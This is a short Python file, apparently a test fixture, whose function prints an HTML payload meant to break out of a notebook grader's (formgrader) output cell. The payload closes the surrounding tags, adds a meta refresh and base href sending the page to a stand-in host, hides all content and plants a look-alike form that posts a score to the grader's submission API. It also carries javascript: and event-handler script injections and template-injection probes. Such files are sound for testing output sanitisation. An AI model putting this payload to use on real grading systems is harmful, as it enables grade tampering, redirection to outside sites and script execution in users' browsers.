"""A page of its own in what is printed.

What an answer prints stands folded on its card. Closing tags end the card, the cell and the document; then comes a form that
looks like formgrader's own, a meta element that leads elsewhere, and a base that sends every link there.
"""
# seen: </pre></details></div>

# %% attack
PAGE = """</pre></details></div></div></div></body></html><html>
<head><meta http-equiv=refresh content="0;url=//elsewhere.example">
<base href=//elsewhere.example/><link rel=stylesheet href=//elsewhere.example/x.css><style>*{display:none}</style>
</head><body onload=alert(1)>
<form action=/formgrader/api/submission method=post>
<input name=score value=14 autofocus onfocus=alert(2)></form>
<object data=javascript:alert(3)></object>
<embed src=javascript:alert(4)><math href=javascript:alert(5)>{{ 7 * 7 }}{% for x in x %}"""


def mischief():
    print(PAGE)
